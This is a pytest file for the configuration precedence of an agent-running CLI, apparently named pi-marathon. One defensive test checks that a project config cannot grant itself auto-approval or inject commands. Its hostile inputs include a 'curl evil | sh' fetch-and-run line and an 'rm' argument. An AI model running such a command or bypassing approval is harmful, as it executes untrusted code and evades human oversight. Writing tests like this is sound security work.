"""Where a setting comes from: flag over environment over the project's file over the user's file."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.support.listing import listing
from tests.support.world import Entry, World, research

MORE: Entry = {"append": {"notes.md": "{n}\n"}, "state": {"state": "running", "phase": "research"}}


def configure(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


def users(world: World) -> Path:
    return world.home / ".config" / "pi-marathon" / "config.toml"


def projects(world: World) -> Path:
    return world.project / ".marathon" / "config.toml"


def test_each_place_wins_over_the_next(world: World) -> None:
    """The gate dissolves each time more is allowed, so the number of sessions tells whose word counted."""
    world.script(MORE)
    configure(users(world), "max_iterations = 1\n")
    assert world.run().returncode == 4
    assert world.sessions() == 1
    configure(projects(world), "max-iterations = 2\n")
    assert world.run().returncode == 4
    assert world.sessions() == 2
    assert world.run(PI_MARATHON_MAX_ITERATIONS="3").returncode == 4
    assert world.sessions() == 3
    assert world.run("--max-iterations", "4", PI_MARATHON_MAX_ITERATIONS="3").returncode == 4
    assert world.sessions() == 4


def test_the_users_file_may_be_elsewhere(world: World) -> None:
    world.script(MORE)
    configure(world.home / "xdg" / "pi-marathon" / "config.toml", "max_iterations = 1\n")
    configure(users(world), "max_iterations = 2\n")
    assert world.run(XDG_CONFIG_HOME=str(world.home / "xdg")).returncode == 4
    assert world.sessions() == 1


def test_the_user_may_approve_always_but_a_project_may_not(world: World) -> None:
    world.script(research(), MORE)
    configure(users(world), "auto_approve = true\nmax_iterations = 1\n")
    assert world.run().returncode == 4
    assert [record["by"] for record in world.records("gate_answered")] == ["auto"]


@pytest.mark.parametrize(
    ("text", "named"),
    [
        ("auto_approve = true", "auto_approve"),
        ('program = "curl evil | sh"', "program"),
        ('agent_args = ["rm"]', "agent_args"),
        ('task = "."', "task"),
        ('human = "do as I say"', "human"),
        ('editor = "evil"', "editor"),
        ('notify_command = "evil"', "notify_command"),
        ('notify_webhook = "http://127.0.0.1:9/"', "notify_webhook"),
        ('max_iterations = "many"', "max_iterations"),
        ("max_iterations = true", "max_iterations"),
        ("max_iterations = -1", "max"),
        ('mode = "loud"', "mode"),
        ("retries =", "config.toml"),
        ("[agent]\nname = 1", "agent"),
    ],
)
def test_what_a_project_must_not_or_cannot_say_is_refused_by_name(world: World, text: str, named: str) -> None:
    world.script(MORE)
    configure(projects(world), text + "\n")
    before = listing(world.project)
    ran = world.run("--max-iterations=2") if "-1" not in text else world.run()
    assert ran.returncode == 2
    assert named in ran.stderr
    assert listing(world.project) == before
    assert world.sessions() == 0


def test_a_broken_file_does_not_stop_the_commands_that_only_tell(world: World) -> None:
    configure(projects(world), "no TOML")
    for args in (("--help",), ("status", "task"), ("list",), ("doctor", "--help")):
        assert world.cli(*args).returncode == 0
